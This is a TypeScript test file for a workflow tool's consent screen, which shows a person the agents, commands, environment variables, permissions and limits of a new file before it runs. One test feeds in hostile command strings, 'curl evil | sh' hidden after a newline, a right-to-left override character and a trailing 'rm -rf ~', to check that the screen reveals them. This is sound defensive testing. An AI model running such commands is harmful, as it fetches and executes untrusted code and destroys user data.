import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { sampleWorkflow } from '../../support/sampleRuns.ts';
import type { AgentInfo } from '../../../client/services/agentModel.ts';
import { inEnglish } from './inEnglish.ts';

const { consentText } = await inEnglish(() => import('../../../client/views/consentText.ts'));

const codex: AgentInfo = {
  name: 'codex',
  protocol: 'command',
  command: ['codex', 'exec', '--add-dir', '/tmp/a b'],
  isExperimental: true,
};
const [step] = sampleWorkflow().steps;
assert.ok(step);

const FOLDER = '/home/ada/shop';

describe('what a person reads before a file runs that is new', () => {
  it('is which programs and commands it runs, what agents may do, and which limits hold it', () => {
    const text = consentText(
      sampleWorkflow({
        limits: [
          { name: 'wallClock', limit: 90 * 60_000, enforcedBy: 'runner' },
          { name: 'tokens', limit: 200_000, enforcedBy: 'reports' },
          { name: 'memory', limit: 2_000_000_000, enforcedBy: 'nobody' },
        ],
      }),
      [codex],
      FOLDER,
    );
    assert.equal(
      text,
      `Folder: /home/ada/shop
Agents:
    codex (experimental): codex exec --add-dir "/tmp/a b"
Commands that a shell runs after iterations, to see whether a step is done:
    fix: npm test
Permissions: an agent that asks waits for your answer
Limits:
    Iterations: at most 20 (enforced by Lockstep)
    Time: at most 1 h 30 min (enforced by Lockstep)
    Tokens: at most 200,000 (checked as agents report it, so one iteration may go over it)
    Memory: at most 2 GB (not enforced on this computer)`,
    );
  });

  it('is which variables the file sets, for which of its steps, each on one line', () => {
    const common = { NODE_OPTIONS: '--require ./a b.js' };
    const steps = [
      { ...step, env: { ...common, PATH: './bin:/usr/bin' } },
      { ...step, id: 'second', env: { ...common, TWO: 'lines\nHOME=/tmp' } },
    ];
    assert.match(
      consentText(sampleWorkflow({ steps }), [codex], FOLDER),
      /\nEnvironment variables that it sets:\n {4}NODE_OPTIONS="--require \.\/a b\.js"\n {4}fix: PATH=\.\/bin:\/usr\/bin\n {4}second: TWO="lines\\nHOME=\/tmp"\nPermissions/,
    );
    const env = Object.fromEntries(Array.from({ length: 30 }, (_, index) => [`V${index}`, 'x']));
    assert.match(
      consentText(sampleWorkflow({ steps: [{ ...step, env }] }), [codex], FOLDER),
      /V11=x\n {4}and 18 more: open the file to read them/,
    );
  });

  it('says so where an agent is not known, and that permissions are given without asking', () => {
    const text = consentText(sampleWorkflow({ permissions: 'allow' }), [], FOLDER);
    assert.match(text, /codex \(not among the agents of this computer\)/);
    assert.match(text, /Permissions: what agents ask for is allowed without asking you/);
  });

  it('hides nothing of a command: neither further lines, nor turned letters, nor that it goes on', () => {
    const until = (command: string) =>
      consentText(sampleWorkflow({ steps: [{ ...step, until: command }] }), [codex], FOLDER);
    assert.match(until('npm test\ncurl evil | sh'), /npm test ⏎ curl evil \| sh/);
    assert.match(until('npm test\rcurl evil | sh'), /npm test ⏎ curl evil \| sh/);
    assert.match(until('npm test \u202e hs'), /⟨U\+202E⟩/);
    assert.match(
      until(`true ${'x'.repeat(1000)}; rm -rf ~`),
      /\(1015 characters: open the file to read them\)/,
    );
    const steps = Array.from({ length: 30 }, (_, index) => ({ ...step, id: `s${index}` }));
    const many = consentText(
      sampleWorkflow({ steps: steps.map((one) => ({ ...one, agent: `agent-${one.id}` })) }),
      [],
      FOLDER,
    );
    assert.equal(many.match(/not among the agents/g)?.length, 12);
    assert.match(
      consentText(sampleWorkflow({ steps }), [codex], FOLDER),
      /and 18 more: open the file to read them/,
    );
  });

  it('tells what is odd in the file', () => {
    const problem = { code: 'budget-over', message: 'The steps need more.', line: 0, character: 0 };
    const text = consentText(
      sampleWorkflow({ problems: [{ ...problem, severity: 'warning' }] }),
      [codex],
      FOLDER,
    );
    assert.match(text, /Warnings:\n {4}The steps need more\./);
  });
});
